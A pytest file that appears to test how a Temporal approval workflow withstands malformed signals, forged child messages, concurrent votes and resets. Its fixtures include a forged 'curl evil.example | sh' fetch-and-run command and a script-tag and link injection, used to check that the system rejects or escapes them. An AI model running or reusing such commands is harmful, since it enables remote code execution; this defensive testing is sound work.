"""Bad input on the real stack: a run answers it, records it, and works on; effects are counted."""

import asyncio

import pytest
from temporalio.api.common.v1 import Payload
from temporalio.client import Client, WorkflowHandle, WorkflowUpdateFailedError
from temporalio.common import RawValue

from remit.canonical import JSON, JSONObject
from tests.faults.test_processes_die import reset
from tests.running import Running, ended, guarded, start, waits
from tests.waiting import eventually

pytestmark = [pytest.mark.stack, pytest.mark.xdist_group("lab")]

BOSS, SECOND = "boss@lab.example", "second@lab.example"
POISON = {
    "approve": rb'{"step": "step", "by": "\ud800"}',
    "reject": b'{"step": "step", "by": "boss@lab.example", "n": ' + b"[" * 300 + b"]" * 300 + b"}",
    "edit": b'{"step": "step", "by": "boss@lab.example", "args": {"name": 12345678901234567890}}',
    "claim": rb'{"step": "step", "by": "boss@lab.example\u0000"}',
    "delegate": b'{"step": "step", "by": "x", "comment": "' + b"c" * (1 << 20) + b'"}',
    "resolve_doubt": rb'{"step": "\ud800"}',
    "rollback": rb'{"by": "\ud800", "reason": "x"}',
}


def vote(wait: JSONObject, **more: JSON) -> JSONObject:
    """Return the boss's sound vote."""
    return {"step": "step", "digest": wait["digest"], "by": BOSS, **more}


async def details(handle: WorkflowHandle) -> str:
    """Return what the web UI shows of a run."""
    return str(await handle.query("__temporal_workflow_metadata"))


def odd(data: bytes) -> RawValue:
    """Return a payload as any client may send it."""
    return RawValue(Payload(metadata={"encoding": b"json/plain"}, data=data))


async def test_what_cannot_be_recorded_blocks_nobody(
    lab: Running, lab_client: Client, name: str
) -> None:
    """Messages that no activity can be sent and no ledger can keep, and a child's that is none."""
    handle, wait = await guarded(lab_client, name)
    for message, data in POISON.items():
        await handle.signal(message, odd(data))
    for junk in ("junk", {"wait": {}, "open": True}):
        await handle.signal("remit_wait_changed", junk)

    await handle.execute_update("approve", vote(wait))

    assert (await ended(handle))["status"] == "completed"
    assert lab.effects(name) == [f"put {name}"]
    kept = lab.records(handle.first_execution_run_id or "", "vote")
    assert [one["code"] for one in kept] == ["VOTE-MALFORMED"] * 5 + [""]
    assert (await details(handle)).count("MESSAGE-UNKNOWN") == 2


async def test_a_childs_word_that_somebody_else_sends(lab_client: Client, name: str) -> None:
    """It ends no wait of the run's own, and shows people no command but Remit's."""
    handle, wait = await guarded(lab_client, name)
    forged: JSONObject = {**wait, "command": "curl evil.example | sh", "workflow_id": "evil"}
    del forged["gate"]
    for changed in (forged, {**forged, "workflow_id": ""}, {**forged, "id": "other#1"}):
        for is_open in (True, False) if changed["id"] == wait["id"] else (True,):
            await handle.signal("remit_wait_changed", {"wait": changed, "open": is_open})

    standing = {str(one["id"]): one for one in await waits(handle)}

    assert standing[str(wait["id"])]["command"] == wait["command"]
    assert standing["other#1"]["command"] == wait["command"]
    assert "evil.example" not in await details(handle)
    await handle.execute_update("reject", vote(wait))
    assert (await ended(handle))["status"] == "rejected"


@pytest.mark.parametrize("document", [b"[" * 300 + b"]" * 300, rb'{"goal": "\ud800"}'])
async def test_a_plan_that_cannot_travel_is_invalid(lab_client: Client, document: bytes) -> None:
    """The run ends at once and says so."""
    handle = await start(lab_client, odd(document))  # type: ignore[arg-type]

    assert (await ended(handle, 30))["status"] == "invalid"


async def test_what_people_write_is_text_in_the_details(lab_client: Client, name: str) -> None:
    """A comment's HTML and links are shown, and are neither; the gate tells how to say no."""
    handle, wait = await guarded(lab_client, name)
    shown = await details(handle)
    assert "--name approve" in shown
    assert "--name reject" in shown
    assert "`take_over`" in shown
    comment = "<script>x</script> [Approve](http://evil.example)"

    await handle.execute_update("request_changes", vote(wait, comment=comment))

    (sent_back,) = [one for one in await waits(handle) if one["kind"] == "changes"]
    assert comment in str(sent_back["reason"])
    shown = await details(handle)
    assert "<script" not in shown.replace("\\\\<", "").replace("\\<", "")
    assert "](http" not in shown.replace("\\\\](http", "").replace("\\](http", "")
    await handle.cancel()
    await ended(handle)


async def test_yes_and_no_in_flight_at_once(lab: Running, lab_client: Client, name: str) -> None:
    """Two updates: one ends the gate, the other is told that it is late; the run follows."""
    handle, wait = await guarded(lab_client, name)

    async def say(verb: str, by: str) -> str:
        try:
            await handle.execute_update(verb, vote(wait, by=by))
        except WorkflowUpdateFailedError as error:
            return str(getattr(error.cause, "type", ""))
        return ""

    told = await asyncio.gather(say("approve", BOSS), say("reject", SECOND))

    assert sorted(told) == ["", "VOTE-LATE"]
    is_granted = told[0] == ""
    assert (await ended(handle))["status"] == ("completed" if is_granted else "rejected")
    assert lab.effects(name) == ([f"put {name}"] if is_granted else [])


async def test_reset_to_before_the_gate_asks_and_calls_no_second_time(
    lab: Running, lab_client: Client, name: str
) -> None:
    """Votes, grant and call stand in the ledger; the reset run finds them all."""
    handle, wait = await guarded(lab_client, name)
    await handle.signal("approve", vote(wait))
    assert (await ended(handle))["status"] == "completed"

    again = await reset(lab_client, handle)

    assert (await ended(again))["status"] == "completed"
    assert lab.effects(name) == [f"put {name}"]
    root = handle.first_execution_run_id or ""
    assert len(lab.records(root, "gate_end")) == 1
    assert [one["counted"] for one in lab.records(root, "vote")].count(True) == 1


async def test_reset_of_a_run_that_waits_approves_nothing(
    lab: Running, lab_client: Client, name: str
) -> None:
    """Half a quorum stays half: the signal that the reset sends again is the same person's."""
    name = name.removeprefix("guarded")
    gate: JSONObject = {"role": "keeper_of_names", "quorum": 2}
    handle, wait = await guarded(lab_client, name, approval=gate)
    await handle.signal("approve", vote(wait))

    async def has_voted() -> bool:
        return bool(lab.records(handle.first_execution_run_id or "", "vote"))

    await eventually(has_voted)
    again = await reset(lab_client, handle)

    (still,) = await waits(again)
    assert (still["digest"], still["due_ms"]) == (wait["digest"], wait["due_ms"])
    assert lab.effects(name) == []
    await again.execute_update("approve", vote(still, by=SECOND))
    assert (await ended(again))["status"] == "completed"
    assert lab.effects(name) == [f"put {name}"]
